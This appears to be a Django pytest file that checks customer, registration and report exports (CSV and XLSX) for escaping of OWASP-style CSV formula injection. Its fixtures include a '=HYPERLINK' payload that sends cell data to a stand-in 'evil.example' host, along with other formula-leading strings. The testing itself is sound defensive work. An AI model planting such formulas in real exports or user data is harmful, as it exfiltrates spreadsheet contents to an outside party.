"""No cell of an export can run as a spreadsheet formula (OWASP's CSV injection): a customer
named ``=HYPERLINK(…)``, a comment ``+47…`` or ``-…``, ``@SUM(…)``, a tab or a carriage
return in front are written as text, in the customer and registration exports and in the
reports' tables. Numbers stay numbers, a negative one too."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from kundeflyt.campaigns.models import ExtraField
from kundeflyt.crm.models import Customer
from kundeflyt.handling.models import Event
from kundeflyt.reports.exports import (
    ENGLISH_CSV,
    NORWEGIAN_CSV,
    cell_text,
    formula_safe,
    table_csv,
    table_xlsx,
)
from kundeflyt.reports.selectors import Column, Table
from tests.exports.conftest import JUNE, History, cells, download, read_csv, read_xlsx

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?x="&A1;"Klikk")'
DANGEROUS = [EVIL, "+47 912 34 567", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_every_text_that_starts_like_a_formula_gets_a_quote_in_csv() -> None:
    for text in DANGEROUS:
        assert formula_safe(text) == "'" + text
        assert cell_text(text, NORWEGIAN_CSV) == "'" + text
    for harmless in ("Kari", "Ærlig", " =1", "1+1", "", "'=1"):
        assert formula_safe(harmless) == harmless
    assert cell_text(-5, ENGLISH_CSV) == "-5"
    assert cell_text(Decimal("-12.50"), NORWEGIAN_CSV) == "-12,50"
    assert cell_text(-0.5, ENGLISH_CSV) == "-0.5"


@pytest.fixture
def evil(history: History) -> History:
    """A customer named by a formula, and comments and extra values that start like one."""
    shop = history.shop
    sale, refusal = history.events[0], history.events[1]
    Customer.objects.filter(pk=sale.customer_id).update(name=EVIL)
    Event.objects.filter(pk=sale.pk).update(
        comment="+47 912 34 567", extra_values={"contract": "@SUM(A1:A9)", "kwh": -3}
    )
    Event.objects.filter(pk=refusal.pk).update(comment="-2+3")
    assert ExtraField.objects.filter(campaign=shop.campaign, key="kwh", type="number").exists()
    return history


def test_a_registration_csv_quotes_them_and_keeps_negative_numbers(
    client: Client, evil: History
) -> None:
    rows = read_csv(
        download(client, evil.shop.boss, "registrations", {**JUNE, "format": "csv"}), ","
    )

    sale, refusal = rows[0], rows[1]
    assert sale["Customer"] == "'" + EVIL
    assert sale["Comment"] == "'+47 912 34 567"
    assert sale["Kontraktnr"] == "'@SUM(A1:A9)"
    assert sale["Forbruk (kWh)"] == "-3"  # a number: no quote
    assert refusal["Comment"] == "'-2+3"


def test_a_registration_xlsx_writes_them_as_quoted_text_cells(
    client: Client, evil: History
) -> None:
    body = download(client, evil.shop.boss, "registrations", {**JUNE, "format": "xlsx"})

    dangerous = [c for c in cells(body) if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in dangerous} >= {EVIL, "+47 912 34 567", "-2+3", "@SUM(A1:A9)"}
    for cell in dangerous:
        assert cell.data_type == "s", cell.value  # never "f": no formula
        assert cell.quotePrefix, cell.value  # and stays text when edited in Excel
    sale = read_xlsx(body)["Registrations"][0]
    assert sale["Forbruk (kWh)"] == -3  # a number cell


def test_a_customer_export_quotes_a_name_that_is_a_formula(client: Client, evil: History) -> None:
    world = evil.shop.world
    data = {"campaign": world.campaign.pk}

    rows = read_csv(download(client, world.supervisor, "customers", {**data, "format": "csv"}), ",")
    book = download(client, world.supervisor, "customers", {**data, "format": "xlsx"})

    assert "'" + EVIL in {r["Name"] for r in rows}
    named = [c for c in cells(book) if c.value == EVIL]
    assert len(named) == 1 and named[0].data_type == "s" and named[0].quotePrefix


def test_the_report_tables_are_guarded_too() -> None:
    table = Table(
        "people",
        "People",
        [Column("user", "User"), Column("n", "Outcomes", "int"), Column("m", "Sum", "money")],
        [[EVIL, 3, Decimal("-1.50")], ["-Kari", -2, Decimal("2.00")]],
    )

    rows = list(csv.reader(io.StringIO(table_csv(table, language="en").decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(table_xlsx(table))).active
    assert sheet is not None

    assert rows[1] == ["'" + EVIL, "3", "-1.50"]
    assert rows[2] == ["'-Kari", "-2", "2.00"]
    assert sheet["A2"].value == EVIL and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["A3"].value == "-Kari" and sheet["A3"].data_type == "s"
    assert sheet["B3"].value == -2 and sheet["B3"].data_type == "n"
    assert sheet["C2"].value == -1.5 and sheet["C2"].data_type == "n"
